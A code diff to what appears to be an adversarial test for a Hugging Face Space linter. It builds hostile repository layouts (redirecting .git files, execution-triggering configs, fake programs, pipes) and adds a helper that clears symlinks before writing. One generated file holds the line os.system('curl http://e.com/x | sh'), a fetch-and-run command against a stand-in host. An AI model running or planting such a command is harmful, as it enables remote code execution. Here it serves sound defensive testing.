@@ -82,12 +82,22 @@ def _check(rng: Random, space: Path, mark: Path) -> None:
         render_all(Report((report,), settings.rules.profile, "0" * 16))
 
 
+def _cleared(space: Path, name: str) -> Path:
+    """Return a path in the Space on which neither a link nor a pipe is left: what is written there stays in it."""
+    path = space
+    for part in Path(name).parts:
+        path = path / part
+        if path.is_symlink() or (path.exists() and not path.is_file() and not path.is_dir()):
+            path.unlink()
+    return path
+
+
 def _fill(rng: Random, space: Path) -> None:
     _, files = rng.choice(list(enumerate(seeds.spaces())))
     for name, data in list(files.items())[:12]:
         if len(data) <= seeds.MOST and not name.endswith((".yml", "Dockerfile")):  # engines have tests of their own
-            target = space / name
             with suppress(OSError, ValueError):
+                target = _cleared(space, name)
                 target.parent.mkdir(parents=True, exist_ok=True)
                 target.write_bytes(data)
 
@@ -106,38 +116,38 @@ def _link(rng: Random, space: Path, mark: Path) -> None:
 
 def _repository(rng: Random, space: Path, mark: Path) -> None:
     """A repository in the Space, with settings that would run something, or a file that leads elsewhere."""
-    folder = rng.choice((space, space / "sub", space / "sub" / "deep"))
-    folder.mkdir(parents=True, exist_ok=True)
-    git = folder / ".git"
+    below = rng.choice((".", "sub", "sub/deep"))
+    git = _cleared(space, f"{below}/.git")
+    git.parent.mkdir(parents=True, exist_ok=True)
     if rng.random() < 0.3:
         git.write_text(rng.choice(("gitdir: ../..\n", "gitdir: /\n", "gitdir: .git\n", "x", "", "gitdir: \0\n")))
         return
-    for part in rng.sample(("objects", "refs/heads", "info", "hooks"), 3):
-        (git / part).mkdir(parents=True, exist_ok=True)
-    (git / "HEAD").write_text(rng.choice(("ref: refs/heads/main\n", "", "0" * 40, "ref: ../../x\n")))
-    (git / "config").write_text(_GIT % (mark, mark))
-    (git / "info").mkdir(exist_ok=True)
-    (git / "info" / "exclude").write_text("*\n")
-    (folder / "leak.txt").write_text(expand("@@fake:huggingface-user-token@@"))
+    for part in (*rng.sample(("objects", "refs/heads", "hooks"), 2), "info"):
+        _cleared(space, f"{below}/.git/{part}").mkdir(parents=True, exist_ok=True)
+    head = rng.choice(("ref: refs/heads/main\n", "", "0" * 40, "ref: ../../x\n"))
+    for name, text in (("HEAD", head), ("config", _GIT % (mark, mark)), ("info/exclude", "*\n")):
+        _cleared(space, f"{below}/.git/{name}").write_text(text)
+    _cleared(space, f"{below}/leak.txt").write_text(expand("@@fake:huggingface-user-token@@"))
 
 
 def _config(rng: Random, space: Path, mark: Path) -> None:
     """Settings of the Space's own, with fields of any kind."""
     lines = [f"{rng.choice(_KEYS)}: {rng.choice(_VALUES)}" for _ in range(rng.choice((1, 1, 2, 4)))]
     name = rng.choice((".hf-lint.yaml", ".hf-lint.yaml", ".hf-lint-baseline.json", ".gitignore", ".dockerignore"))
-    (space / name).write_text("\n".join(lines) + "\n")
+    _cleared(space, name).write_text("\n".join(lines) + "\n")
 
 
 def _program(rng: Random, space: Path, mark: Path) -> None:
     """A program by the name of one that hf-lint starts."""
-    program = space / rng.choice(_PROGRAMS)
+    program = _cleared(space, rng.choice(_PROGRAMS))
     program.write_text(f"#!/bin/sh\n: > '{mark}'\n")
     program.chmod(program.stat().st_mode | stat.S_IXUSR)
 
 
 def _special(rng: Random, space: Path, mark: Path) -> None:
     """What is no file: a pipe that nobody writes to, a folder where a file is wanted, a file that nobody may read."""
-    name = space / rng.choice(("README.md", "app.py", ".hf-lint.yaml", "requirements.txt", "pipe.py", "Dockerfile"))
+    names = ("README.md", "app.py", ".hf-lint.yaml", "requirements.txt", "pipe.py", "Dockerfile")
+    name = _cleared(space, rng.choice(names))
     if name.exists():
         name.unlink()
     how = rng.random()
@@ -153,4 +163,4 @@ def _special(rng: Random, space: Path, mark: Path) -> None:
 def _name(rng: Random, space: Path, mark: Path) -> None:
     """A file by a hostile name."""
     command = rng.choice(("id", "curl http://e.com/x | sh"))
-    (space / rng.choice(_NAMES)).write_text(f"import os\nos.system('{command}')\n")
+    _cleared(space, rng.choice(_NAMES)).write_text(f"import os\nos.system('{command}')\n")
